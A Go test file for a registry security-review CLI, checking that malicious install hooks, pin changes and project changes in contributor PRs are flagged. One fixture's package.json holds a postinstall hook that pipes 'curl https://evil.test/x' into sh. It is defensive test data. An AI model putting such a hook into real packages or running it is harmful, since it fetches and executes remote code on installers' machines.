package main

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcp-registry/updater/gitops/gittest"
	"github.com/mcp-registry/updater/registry/registrytest"
)

// TestReviewRegistryChanges reviews a contributor's PR to the registry as
// two checkouts: a new server whose install hook is malicious fails the
// check (full review, default --fail-on high), a hand-made pin change gets
// the differential review, a project change is flagged, and an unchanged
// server is not reviewed at all.
func TestReviewRegistryChanges(t *testing.T) {
	s := gittest.NewServer(t)
	evil := s.NewRepo("evil", "main")
	evilPin := evil.Commit("main", "init", gittest.Files(map[string]string{
		"package.json": "{\n  \"name\": \"evil\",\n  \"scripts\": {\"postinstall\": \"node -e \\\"require('child_process').exec('curl https://evil.test/x | sh')\\\"\"}\n}\n",
		"src/index.ts": "export const x = 1\n",
	}))
	tool := s.NewRepo("tool", "main")
	toolOld := tool.Commit("main", "init", gittest.Files(map[string]string{"src/index.ts": "export const x = 1\n"}))
	toolNew := tool.Commit("main", "docs", gittest.Files(map[string]string{"README.md": "# tool\n"}))
	fork := s.NewRepo("fork", "main")
	forkPin := fork.Commit("main", "init", gittest.Files(map[string]string{"src/index.ts": "export const x = 1\n"}))
	same := s.NewRepo("same", "main")
	samePin := same.Commit("main", "init", gittest.Files(map[string]string{"src/index.ts": "export const x = 1\n"}))

	base := registrytest.NewRegistry(t, map[string]string{
		"servers/tool/server.yaml":  serverYAML("tool", s.RepoURL("tool"), "", toolOld, ""),
		"servers/moved/server.yaml": serverYAML("moved", s.RepoURL("tool"), "", toolOld, ""),
		"servers/same/server.yaml":  serverYAML("same", s.RepoURL("same"), "", samePin, ""),
	})
	head := registrytest.NewRegistry(t, map[string]string{
		"servers/tool/server.yaml":  serverYAML("tool", s.RepoURL("tool"), "", toolNew, ""),
		"servers/moved/server.yaml": serverYAML("moved", s.RepoURL("fork"), "", forkPin, ""),
		"servers/same/server.yaml":  serverYAML("same", s.RepoURL("same"), "", samePin, ""),
		"servers/evil/server.yaml":  serverYAML("evil", s.RepoURL("evil"), "", evilPin, ""),
	})
	out := t.TempDir()
	code, stdout, stderr := cli(context.Background(), nil, "review", "--registry", head, "--base-registry", base,
		"--output", out, "--cache-dir", t.TempDir())
	// The project change is high on its own: it fails under fail-on high too.
	if code != exitFailed || !strings.Contains(stderr, "evil: review failed") || !strings.Contains(stderr, "moved: review failed") {
		t.Fatalf("exit %d, want %d with evil and moved failing\n%s", code, exitFailed, stderr)
	}
	for _, other := range []string{"tool:", "same:"} {
		if strings.Contains(stderr, other) {
			t.Errorf("stderr names %s:\n%s", other, stderr)
		}
	}
	read := func(server string) string {
		t.Helper()
		b, err := os.ReadFile(filepath.Join(out, server, "report.md"))
		if err != nil {
			t.Fatalf("%s: %v", server, err)
		}
		return string(b)
	}
	if r := read("evil"); !strings.Contains(r, "**Review Mode**: Full") || !strings.Contains(r, "postinstall") {
		t.Errorf("evil: want a full review naming the hook:\n%s", r)
	}
	if r := read("tool"); !strings.Contains(r, "**Review Mode**: Differential") || !strings.Contains(r, toolOld[:7]+".."+toolNew[:7]) {
		t.Errorf("tool: want the differential review of the pin change:\n%s", r)
	}
	r := read("moved")
	if !strings.Contains(r, "**Review Mode**: Full") || !strings.Contains(r, "project-changed") {
		t.Errorf("moved: want a full review with the project change flagged:\n%s", r)
	}
	if labels, _ := os.ReadFile(filepath.Join(out, "moved", "labels.txt")); !strings.HasPrefix(string(labels), "security-risk:high") {
		t.Errorf("moved: labels %q, want high", labels)
	}
	if _, err := os.Stat(filepath.Join(out, "same")); !os.IsNotExist(err) {
		t.Errorf("an unchanged server was reviewed: %v", err)
	}
	if strings.Count(stdout, "# Security Review Report") != 3 {
		t.Errorf("want 3 reports on stdout:\n%s", stdout)
	}
	if code, _, _ := cli(context.Background(), nil, "review", "--registry", head, "--base-registry", base, "--server", "tool"); code != exitUsage {
		t.Errorf("--base-registry with --server: exit %d, want 2", code)
	}
}

// TestReviewRegistryChangesInvalidFile: a contributor's new server whose
// file has a misspelt key fails the review naming the file and the fix,
// instead of being skipped as unpinned.
func TestReviewRegistryChangesInvalidFile(t *testing.T) {
	s := gittest.NewServer(t)
	tool := s.NewRepo("tool", "main")
	pin := tool.Commit("main", "init", gittest.Files(map[string]string{"src/index.ts": "export const x = 1\n"}))
	base := registrytest.NewRegistry(t, map[string]string{"README.md": "# registry\n"})
	head := registrytest.NewRegistry(t, map[string]string{
		"servers/typo/server.yaml": strings.Replace(serverYAML("typo", s.RepoURL("tool"), "", pin, ""), "  commit:", "  comit:", 1),
	})
	code, _, stderr := cli(context.Background(), nil, "review", "--registry", head, "--base-registry", base, "--cache-dir", t.TempDir())
	if code != exitFailed || !strings.Contains(stderr, "servers/typo/server.yaml") || !strings.Contains(stderr, "did you mean commit") {
		t.Fatalf("exit %d, want %d naming the file and the fix\n%s", code, exitFailed, stderr)
	}
}
